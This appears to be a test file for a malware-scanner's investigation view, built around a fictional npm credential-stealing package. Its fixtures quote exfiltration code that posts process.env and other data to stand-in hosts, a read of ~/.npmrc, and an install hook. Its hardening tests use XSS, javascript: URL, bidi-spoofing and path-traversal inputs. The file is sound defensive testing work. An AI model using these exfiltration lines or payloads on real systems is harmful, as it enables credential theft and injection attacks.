import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { FileSummary } from '../../../../src/engine/analysis/analyze';
import type { FileTraits, Finding } from '../../../../src/engine/analysis/types';
import type { VersionDiff } from '../../../../src/engine/diff/types';
import type { KnownMalwareRecord } from '../../../../src/engine/intel/types';
import { scoredResult, unknownResult, type RegistrySummary, type ScanResult } from '../../../../src/engine/scan/result';
import { buildInvestigateModel, packagePathFor } from '../../../../src/editor/model/investigate/buildModel';
import type { InvestigateModel } from '../../../../src/editor/model/investigate/protocol';
import type { PackageState } from '../../../../src/editor/model/verdictView';
import { finding, result } from '../fixtures';

const traits = (over: Partial<FileTraits> = {}): FileTraits => ({ typeDeclaration: false, test: false, minified: false, built: false, entryPoint: false, ...over });
const summary = (path: string, size: number, over: Partial<FileSummary> = {}): FileSummary => ({ path, size, binary: false, truncated: false, traits: traits(), ...over });
const linkOf = (model: InvestigateModel, id: string | undefined) => model.links.find((l) => l.id === id)?.url;
const record = (over: Partial<KnownMalwareRecord> = {}): KnownMalwareRecord => ({ id: 'MAL-2025-47141', summary: 'Malicious code in evil-pkg (npm)', url: 'https://osv.dev/vulnerability/MAL-2025-47141', aliases: [], published: '2025-09-08T12:00:00Z', ...over });

/** A stealer as the scanner reports it: install script, exfiltration, a raw IP, a bundled minified payload. */
function stealer(): ScanResult {
  const findings: Finding[] = [
    finding({ rule: 'install-script', kind: 'capability', category: 'install', severity: 'medium', message: 'Runs "node lib/setup.js" automatically when the package is installed (postinstall).', file: 'package.json', line: 6, column: 5, excerpt: '"postinstall": "node lib/setup.js"' }),
    finding({ rule: 'env-exfil', severity: 'critical', message: 'Sends process.env to collect.example.invalid <script>alert(1)</script>', file: 'lib/setup.js', line: 14, column: 3, excerpt: "https.request({ hostname: 'collect.example.invalid', method: 'POST' })", indicators: [{ type: 'domain', value: 'collect.example.invalid' }, { type: 'url', value: 'https://collect.example.invalid/c' }, { type: 'email', value: 'op@example.invalid' }] }),
    finding({ rule: 'exfil-raw-ip', severity: 'high', message: 'Posts data to 198.51.100.7.', file: 'lib/setup.js', line: 22, column: 1, excerpt: "…fetch('http://198.51.100.7:8080/u', { method: 'POST', body })…", indicators: [{ type: 'ip', value: '198.51.100.7' }, { type: 'url', value: 'http://198.51.100.7:8080/u' }, { type: 'domain', value: 'collect.example.invalid' }] }),
    finding({ rule: 'obfuscated-code', category: 'obfuscation', severity: 'high', message: 'Hex-named variables and a string array decoder.', file: 'dist/payload.min.js', line: 1, column: 40_001 }),
    finding({ rule: 'credential-file-access', category: 'secrets', severity: 'high', message: 'Reads ~/.npmrc.', file: 'lib/setup.js', line: 9, indicators: [{ type: 'path', value: '~/.npmrc' }] }),
    finding({ rule: 'too-large', kind: 'threat', category: 'package', severity: 'info', message: 'Package-wide fact.', file: undefined, line: undefined, column: undefined }),
  ];
  const diff: VersionDiff = {
    name: 'evil-pkg', from: '1.0.0', to: '1.0.1', basis: 'semver-previous',
    added: [{ path: 'lib/setup.js', size: 2048, binary: false, newRules: ['env-exfil', 'exfil-raw-ip'] }, { path: 'dist/payload.min.js', size: 200_000, binary: false, newRules: ['obfuscated-code'] }],
    removed: [{ path: 'lib/old.js', size: 100, binary: false }],
    changed: [
      { path: 'package.json', sizeBefore: 400, sizeAfter: 460, binary: false, newRules: ['install-script'], patch: '--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n-a\n+b\n' },
      { path: 'bin/run', sizeBefore: 10, sizeAfter: 12, binary: false, newRules: [], patchSkipped: 'minified', modeBefore: 0o100644, modeAfter: 0o100755 },
    ],
    unchangedCount: 3,
    packageNewRules: ['release-anomaly'],
  };
  const registry: RegistrySummary = {
    publishedAt: '2025-09-08T10:00:00.000Z', publisher: 'mallory', maintainers: ['alice', 'mallory'], previousVersion: '1.0.0',
    distTags: { next: '2.0.0-beta.1', latest: '1.0.1' },
    versions: [{ version: '2.0.0-beta.1' }, { version: '1.0.1', publishedAt: '2025-09-08T10:00:00.000Z' }, { version: '1.0.0', publishedAt: '2024-01-02T00:00:00.000Z' }],
    versionCount: 3, repository: 'git+https://github.com/acme/evil-pkg.git', provenance: false, deprecated: 'use good-pkg',
  };
  return result({
    findings,
    files: [
      summary('package.json', 460), summary('README.md', 900), summary('lib/setup.js', 2048), summary('lib/util.js', 300, { parsed: false, parseError: 'Unexpected token' }),
      summary('dist/payload.min.js', 200_000, { traits: traits({ minified: true, entryPoint: true }) }), summary('index.js', 120, { traits: traits({ entryPoint: true }) }),
      summary('bin/run', 12), summary('prebuilt/addon.node', 50_000, { binary: true }), summary('big.js', 20_000_000, { truncated: true }),
    ],
    entryPoints: [
      { kind: 'lifecycle', label: 'postinstall', detail: 'node ./lib/setup.js && echo done', installTime: true },
      { kind: 'main', label: 'main', detail: 'index.js', installTime: false },
      { kind: 'bin', label: 'run', detail: './bin/run', installTime: false },
    ],
    integrity: 'sha512-AAAA',
    diff,
    registry,
  });
}

test('a malicious package: banner, evidence by severity with stable ids, links only https', () => {
  const model = buildInvestigateModel({ name: 'evil-pkg', version: '1.0.1', result: stealer() });
  assert.equal(model.key, 'evil-pkg@1.0.1');
  assert.deepEqual(model.banner, { verdict: 'malicious', score: 9.1, reason: 'Sends process.env to a hard-coded host', records: [], skipped: [], pending: false, integrity: 'sha512-AAAA' });
  assert.deepEqual(model.evidence.map((g) => [g.severity, g.items.map((i) => `${i.id}:${i.rule}`)]), [
    ['critical', ['e0:env-exfil']],
    ['high', ['e1:exfil-raw-ip', 'e2:obfuscated-code', 'e3:credential-file-access']],
    ['medium', ['e4:install-script']],
    ['info', ['e5:too-large']],
  ]);
  const exfil = model.evidence[0]!.items[0]!;
  // Raw text: the page inserts it with textContent, so nothing is HTML-escaped here.
  assert.equal(exfil.message, 'Sends process.env to collect.example.invalid <script>alert(1)</script>');
  assert.equal(linkOf(model, exfil.ruleLink), 'https://github.com/takedown-dev/takedown/blob/main/docs/rules/env-exfil.md');
  assert.deepEqual([exfil.file, exfil.line, exfil.column, exfil.canOpen], ['lib/setup.js', 14, 3, true]);
  assert.deepEqual(exfil.indicators, [{ type: 'domain', value: 'collect.example.invalid' }, { type: 'url', value: 'https://collect.example.invalid/c' }, { type: 'email', value: 'op@example.invalid' }]);
  const packageWide = model.evidence[3]!.items[0]!;
  assert.deepEqual([packageWide.file, packageWide.canOpen, packageWide.excerpt], [undefined, false, undefined]);
  assert.ok(model.links.every((l) => l.url.startsWith('https://')));
  assert.deepEqual(new Set(model.links.map((l) => l.id)).size, model.links.length);
  assert.deepEqual(model.actions, { report: true, allow: true, openNpm: true, rescan: true, copyIndicators: true });
  assert.equal(linkOf(model, model.npmLink), 'https://www.npmjs.com/package/evil-pkg/v/1.0.1');
});

test('the one-line excerpt from the scan is tokenised, its cut markers become flags', () => {
  const model = buildInvestigateModel({ name: 'evil-pkg', version: '1.0.1', result: stealer() });
  const items = model.evidence.flatMap((g) => g.items);
  const raw = items.find((i) => i.rule === 'exfil-raw-ip')!.excerpt!;
  assert.equal(raw.lines.length, 1);
  const line = raw.lines[0]!;
  assert.deepEqual([line.number, line.hit, line.cutBefore, line.cutAfter], [22, true, true, true]);
  assert.equal(line.tokens.map((t) => t.text).join(''), "fetch('http://198.51.100.7:8080/u', { method: 'POST', body })");
  assert.deepEqual(line.tokens.slice(0, 3), [{ text: 'fetch', kind: 'function' }, { text: '(', kind: 'punctuation' }, { text: "'http://198.51.100.7:8080/u'", kind: 'string' }]);
  const json = items.find((i) => i.rule === 'install-script')!.excerpt!.lines[0]!;
  assert.deepEqual(json.tokens.slice(0, 2), [{ text: '"postinstall"', kind: 'property' }, { text: ':', kind: 'operator' }]);
  assert.equal(items.find((i) => i.rule === 'obfuscated-code')!.excerpt, undefined);
});

test('files: flags from the summary, the diff, findings and entry points; sorted by path', () => {
  const files = buildInvestigateModel({ name: 'evil-pkg', version: '1.0.1', result: stealer() }).files!;
  assert.deepEqual(files.files.map((f) => [f.path, f.flags.join(','), f.findingCount]), [
    ['README.md', '', 0],
    ['big.js', 'truncated', 0],
    ['bin/run', 'changed,entry-point', 0],
    ['dist/payload.min.js', 'minified,new,findings,entry-point', 1],
    ['index.js', 'entry-point', 0],
    ['lib/setup.js', 'new,findings,install-time', 3],
    ['lib/util.js', 'unparsable', 0],
    ['package.json', 'changed,findings,install-time', 1],
    ['prebuilt/addon.node', 'binary', 0],
  ]);
  assert.deepEqual([files.total, files.totalSize, files.cut], [9, 20_253_840, undefined]);
  assert.deepEqual(files.entryPoints[0], { kind: 'lifecycle', label: 'postinstall', detail: 'node ./lib/setup.js && echo done', installTime: true });
});

test('files over maxFiles: flagged ones are kept first and the cut is explained', () => {
  const many = [...Array.from({ length: 30 }, (_, i) => summary(`docs/page${String(i).padStart(2, '0')}.md`, 10)), summary('zz/evil.js', 10)];
  const res = result({ files: many, findings: [finding({ file: 'zz/evil.js' })] });
  const files = buildInvestigateModel({ name: 'evil-pkg', version: '1.0.1', result: res }, { maxFiles: 5 }).files!;
  assert.deepEqual(files.files.map((f) => f.path), ['docs/page00.md', 'docs/page01.md', 'docs/page02.md', 'docs/page03.md', 'zz/evil.js']);
  assert.equal(files.total, 31);
  assert.equal(files.cut, 'Showing 5 of 31 files: every flagged file, then the others by path.');
});

test('diff: totals default to the list lengths, permission changes read as octal, patches are announced', () => {
  const diff = buildInvestigateModel({ name: 'evil-pkg', version: '1.0.1', result: stealer() }).diff!;
  assert.deepEqual(diff, {
    from: '1.0.0', to: '1.0.1', basis: 'semver-previous',
    added: [{ path: 'lib/setup.js', size: 2048, newRules: ['env-exfil', 'exfil-raw-ip'] }, { path: 'dist/payload.min.js', size: 200_000, newRules: ['obfuscated-code'] }],
    removed: [{ path: 'lib/old.js', size: 100 }],
    changed: [
      { path: 'package.json', sizeBefore: 400, sizeAfter: 460, newRules: ['install-script'], hasPatch: true },
      { path: 'bin/run', sizeBefore: 10, sizeAfter: 12, newRules: [], hasPatch: false, patchSkipped: 'minified', mode: '644 → 755' },
    ],
    unchangedCount: 3, totals: { added: 2, removed: 1, changed: 2 }, packageNewRules: ['release-anomaly'],
  });
  const explicit = stealer();
  explicit.diff = { ...explicit.diff!, totals: { added: 5000, removed: 0, changed: 7 }, truncated: 'Too many files: the first 2000 are listed.' };
  const cut = buildInvestigateModel({ name: 'evil-pkg', version: '1.0.1', result: explicit }).diff!;
  assert.deepEqual([cut.totals, cut.truncated], [{ added: 5000, removed: 0, changed: 7 }, 'Too many files: the first 2000 are listed.']);
});

test('registry facts: tags latest first, the current version marked, the repository normalised into a GitHub link', () => {
  const model = buildInvestigateModel({ name: 'evil-pkg', version: '1.0.1', result: stealer() });
  const registry = model.registry!;
  assert.deepEqual(registry.distTags, [{ tag: 'latest', version: '1.0.1' }, { tag: 'next', version: '2.0.0-beta.1' }]);
  assert.deepEqual(registry.versions, [
    { version: '2.0.0-beta.1', current: false },
    { version: '1.0.1', publishedAt: '2025-09-08T10:00:00.000Z', current: true },
    { version: '1.0.0', publishedAt: '2024-01-02T00:00:00.000Z', current: false },
  ]);
  assert.deepEqual([registry.publisher, registry.maintainers, registry.previousVersion, registry.provenance, registry.deprecated], ['mallory', ['alice', 'mallory'], '1.0.0', false, 'use good-pkg']);
  assert.equal(registry.repository!.text, 'git+https://github.com/acme/evil-pkg.git');
  assert.equal(linkOf(model, registry.repository!.link), 'https://github.com/acme/evil-pkg');
});

test('indicators: every kind once, sorted, no emails, and the JSON the copy action puts on the clipboard', () => {
  const model = buildInvestigateModel({ name: 'evil-pkg', version: '1.0.1', result: stealer() });
  const { json, ...lists } = model.indicators;
  assert.deepEqual(lists, { domains: ['collect.example.invalid'], ips: ['198.51.100.7'], urls: ['http://198.51.100.7:8080/u', 'https://collect.example.invalid/c'], paths: ['~/.npmrc'] });
  assert.deepEqual(JSON.parse(json), { package: 'evil-pkg', version: '1.0.1', ...lists });
  assert.match(json, /^\{\n {2}"package": "evil-pkg",\n/);
  const flood = result({ findings: [finding({ indicators: Array.from({ length: 450 }, (_, i) => ({ type: 'domain' as const, value: `h${String(i).padStart(3, '0')}.example.invalid` })) })] });
  const capped = buildInvestigateModel({ name: 'evil-pkg', version: '1.0.1', result: flood }).indicators;
  assert.equal(capped.domains.length, 200);
  assert.equal(capped.domains[199], 'h199.example.invalid');
});

test('hostile metadata: javascript: repository stays text, bidi text is made visible, long strings are capped', () => {
  const res = stealer();
  res.registry = { ...res.registry!, repository: 'javascript:alert(document.domain)//github.com/acme/x', publisher: 'admin\u202egnp.exe', deprecated: 'x'.repeat(10_000) };
  res.findings = [finding({ message: `m${'y'.repeat(5000)}`, file: 'lib/\u202eevil.js' })];
  res.files = [summary('lib/\u202eevil.js', 10)];
  const state: PackageState = { name: 'evil-pkg', version: '1.0.1', result: res };
  const model = buildInvestigateModel(state);
  assert.deepEqual(model.registry!.repository, { text: 'javascript:alert(document.domain)//github.com/acme/x' });
  assert.ok(!model.links.some((l) => l.url.includes('javascript')));
  assert.equal(model.registry!.publisher, 'admin\\u{202e}gnp.exe');
  assert.equal(model.registry!.deprecated!.length, 2000);
  const item = model.evidence[0]!.items[0]!;
  assert.equal(item.message.length, 2000);
  assert.ok(item.message.endsWith('…'));
  assert.equal(item.file, 'lib/\\u{202e}evil.js');
  assert.equal(model.files!.files[0]!.path, 'lib/\\u{202e}evil.js');
  // What the page sends back maps to the real package path, and only to paths the scan listed.
  assert.equal(packagePathFor(state, 'lib/\\u{202e}evil.js'), 'lib/\u202eevil.js');
  assert.equal(packagePathFor(state, 'lib/\u202eevil.js'), undefined);
  assert.equal(packagePathFor(state, '../../etc/passwd'), undefined);
  assert.equal(packagePathFor(state, 'lib/old.js'), 'lib/old.js');
  // two paths that show alike once cut at the cap: neither is chosen (a decoy is never opened instead)
  const long = 'a'.repeat(1200);
  const twins: PackageState = { name: 'p', version: '1.0.0', result: result({ name: 'p', version: '1.0.0', findings: [finding({ file: `${long}/evil.js` })], files: [summary(`${long}/decoy.js`, 1), summary(`${long}/evil.js`, 1)] }) };
  const shownTwin = buildInvestigateModel(twins).files!.files[0]!.path;
  assert.equal(packagePathFor(twins, shownTwin), undefined);
});

test('hostile names and a 100 KB excerpt: text stays text, the excerpt is cut, no link is built from the name', () => {
  const minified = `!function(){${'var _0xab=1;'.repeat(9000)}}();`;
  const res = result({ name: '<img src=x onerror=alert(1)>', findings: [finding({ file: 'dist/x.min.js', excerpt: minified })] });
  const model = buildInvestigateModel({ name: '<script>alert(1)</script>', version: '1.0.0', result: res });
  assert.deepEqual([model.name, model.key, model.npmLink, model.actions.openNpm], ['<script>alert(1)</script>', '<script>alert(1)</script>@1.0.0', undefined, false]);
  assert.ok(!model.links.some((l) => l.id.startsWith('npm')));
  const line = model.evidence[0]!.items[0]!.excerpt!.lines[0]!;
  assert.equal(line.tokens.map((t) => t.text).join(''), minified.slice(0, 1000));
  assert.deepEqual([line.cutBefore, line.cutAfter], [false, true]);
  assert.ok(JSON.stringify(model).length < 40_000, `${JSON.stringify(model).length} bytes`);
});

test('repository forms: shorthands, git URLs and scp-style become https forge links; other hosts do not', () => {
  const linkFor = (repository: string) => {
    const res = stealer();
    res.registry = { ...res.registry!, repository };
    const model = buildInvestigateModel({ name: 'evil-pkg', version: '1.0.1', result: res });
    return linkOf(model, model.registry!.repository?.link);
  };
  assert.deepEqual(
    ['github:acme/tool', 'acme/tool', 'git://github.com/acme/tool.git', 'git+ssh://git@github.com/acme/tool.git', 'git@github.com:acme/tool.git', 'https://www.github.com/acme/tool/tree/main/packages/x', 'http://github.com/acme/tool', 'gitlab:grp/sub/tool', 'https://gitlab.com/grp/tool/-/tree/main', 'bitbucket:team/tool'].map(linkFor),
    ['https://github.com/acme/tool', 'https://github.com/acme/tool', 'https://github.com/acme/tool', 'https://github.com/acme/tool', 'https://github.com/acme/tool', 'https://github.com/acme/tool', 'https://github.com/acme/tool', 'https://gitlab.com/grp/sub/tool', 'https://gitlab.com/grp/tool', 'https://bitbucket.org/team/tool'],
  );
  assert.deepEqual(
    ['https://github.com.evil.invalid/acme/tool', 'https://user:pw@github.com/acme/tool', 'https://github.com:8443/acme/tool', 'file:///etc/passwd', 'data:text/html,<script>', 'https://github.com/acme', 'https://github.com/../tool', 'github:acme/<img src=x onerror=alert(1)>', 'https://github.com/acme/tool%2F..%2F..'].map(linkFor),
    Array(9).fill(undefined),
  );
});

test('npm links encode each name segment and keep a scope readable', () => {
  const npmUrl = (name: string, version: string) => {
    const model = buildInvestigateModel({ name, version, result: scoredResult(`${name}@${version}`, name, version, []) });
    return linkOf(model, model.npmLink);
  };
  assert.equal(npmUrl('@evil-scope/logger', '1.2.3'), 'https://www.npmjs.com/package/@evil-scope/logger/v/1.2.3');
  assert.equal(npmUrl('@sc/a?b#c', '1.0.0+build.7'), 'https://www.npmjs.com/package/@sc/a%3Fb%23c/v/1.0.0%2Bbuild.7');
  assert.equal(npmUrl('../../evil', '1.0.0'), undefined);
  assert.equal(npmUrl('@a/b/c', '1.0.0'), undefined);
  // No exact version: the package page without a version, and no version-bound actions.
  const unresolved = buildInvestigateModel({ name: 'left-pad', spec: '^1.3.0' });
  assert.equal(unresolved.key, 'left-pad@^1.3.0');
  assert.equal(linkOf(unresolved, unresolved.npmLink), 'https://www.npmjs.com/package/left-pad');
  assert.deepEqual(unresolved.actions, { report: false, allow: false, openNpm: true, rescan: true, copyIndicators: false });
});

test('a withdrawn OSV record is listed as withdrawn and makes nothing malicious', () => {
  const withdrawn = record({ withdrawn: '2025-09-10T00:00:00Z' });
  const state: PackageState = { name: 'evil-pkg', version: '1.0.1', knownMalware: { status: 'hit', records: [withdrawn] }, result: scoredResult('evil-pkg@1.0.1', 'evil-pkg', '1.0.1', []) };
  const model = buildInvestigateModel(state);
  assert.equal(model.banner.verdict, 'clean');
  assert.deepEqual(model.banner.records, [{ id: 'MAL-2025-47141', summary: 'Malicious code in evil-pkg (npm)', link: 'osv-0', published: '2025-09-08T12:00:00Z', withdrawn: '2025-09-10T00:00:00Z' }]);
  assert.equal(linkOf(model, 'osv-0'), 'https://osv.dev/vulnerability/MAL-2025-47141');
  assert.deepEqual([model.actions.report, model.actions.allow], [false, false]);
});

test('a live record makes the package reportable even before any scan, and a record id that is not an OSV id gets no link', () => {
  const state: PackageState = { name: 'evil-pkg', version: '1.0.1', knownMalware: { status: 'hit', records: [record(), record({ id: 'javascript:alert(1)', summary: 'x' })] } };
  const model = buildInvestigateModel(state);
  assert.deepEqual([model.banner.verdict, model.banner.score, model.banner.reason], ['malicious', 10, 'known malware (MAL-2025-47141): Malicious code in evil-pkg (npm)']);
  assert.deepEqual(model.banner.records.map((r) => [r.id, r.link]), [['MAL-2025-47141', 'osv-0'], ['javascript:alert(1)', undefined]]);
  assert.deepEqual(model.actions, { report: true, allow: true, openNpm: true, rescan: true, copyIndicators: false });
  assert.deepEqual([model.files, model.diff, model.registry], [undefined, undefined, undefined]);
});

test('an unknown verdict with an error: the reason in plain words, the error, nothing else invented', () => {
  const res = unknownResult('evil-pkg@1.0.1', 'evil-pkg', '1.0.1', 'E_FETCH', 'request to https://registry.example.invalid failed: ECONNRESET');
  res.skipped = ['known-malware lookup unavailable: OSV.dev answered 503'];
  const model = buildInvestigateModel({ name: 'evil-pkg', version: '1.0.1', result: res });
  assert.deepEqual(model.banner, {
    verdict: 'unknown', score: 0, reason: 'registry unreachable', records: [], skipped: ['known-malware lookup unavailable: OSV.dev answered 503'], pending: false,
    lookupUnavailable: 'OSV.dev answered 503', error: 'request to https://registry.example.invalid failed: ECONNRESET (E_FETCH)',
  });
  assert.deepEqual([model.evidence, model.files, model.diff, model.registry], [[], undefined, undefined, undefined]);
  assert.deepEqual(model.actions, { report: false, allow: true, openNpm: true, rescan: true, copyIndicators: false });
  // Without the locked version, the failed scan's version is not trusted as exact.
  assert.equal(buildInvestigateModel({ name: 'evil-pkg', spec: 'latest', result: res }).actions.allow, false);
});

test('nothing known yet: pending or not scanned, and a removed-by-npm package says so', () => {
  const pending = buildInvestigateModel({ name: 'fresh-pkg', version: '0.1.0', pending: true });
  assert.deepEqual([pending.banner.verdict, pending.banner.reason, pending.banner.pending], ['unknown', 'Scan in progress.', true]);
  assert.equal(buildInvestigateModel({ name: 'fresh-pkg', version: '0.1.0' }).banner.reason, 'Not scanned yet.');
  const res = scoredResult('evil-pkg@0.0.1-security', 'evil-pkg', '0.0.1-security', [], {
    registry: { maintainers: [], distTags: { latest: '0.0.1-security' }, versions: [{ version: '0.0.1-security' }], versionCount: 1, provenance: false, removedByNpm: { probably: true, reason: 'npm replaced it with its security holding package' } },
  });
  const removed = buildInvestigateModel({ name: 'evil-pkg', version: '0.0.1-security', result: res });
  assert.equal(removed.banner.removedByNpm, 'npm replaced it with its security holding package');
  assert.equal(removed.registry!.repository, undefined);
  assert.deepEqual(removed.actions, { report: false, allow: false, openNpm: true, rescan: true, copyIndicators: false });
});

test('a package with hundreds of findings: the first 50 excerpts are coloured, the rest are one plain token each', () => {
  const minified = `var a=require("child_process");${'a.exec("x"),'.repeat(25)}`;
  const findings = Array.from({ length: 300 }, (_, i) => finding({ rule: 'process-spawn', severity: 'low', file: `dist/chunk${i}.js`, line: 1, excerpt: minified }));
  const model = buildInvestigateModel({ name: 'bundle-pkg', version: '1.0.0', result: result({ name: 'bundle-pkg', version: '1.0.0', findings }) });
  const items = model.evidence.flatMap((g) => g.items);
  assert.equal(items.length, 300);
  const tokens = (id: string) => items.find((i) => i.id === id)!.excerpt!.lines[0]!.tokens;
  assert.ok(tokens('e49').length > 20, 'coloured: many tokens');
  assert.deepEqual(tokens('e50'), [{ text: minified, kind: 'plain' }]);
  assert.ok(JSON.stringify(model).length < 600_000, `model of ${JSON.stringify(model).length} characters`);
});
